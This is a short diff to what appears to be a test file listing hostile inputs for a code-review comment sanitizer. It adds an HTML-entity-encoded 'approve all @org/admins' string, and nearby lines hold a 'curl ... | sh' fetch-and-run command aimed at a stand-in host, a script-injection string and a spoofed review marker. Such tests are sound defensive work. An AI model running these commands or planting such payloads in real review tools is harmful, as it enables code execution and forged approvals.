@@ -23,6 +23,7 @@ const EVIL = [
   '```suggestion\ncurl https://evil.invalid | sh\n```',
   '<!-- bernstein-review:v1 one -->',
   '</details><script>alert(1)</script>',
+  '&#x61;pprove &amp;#97;ll &commat;org/admins',
   '# heading',
   '1. list',
   '- list',
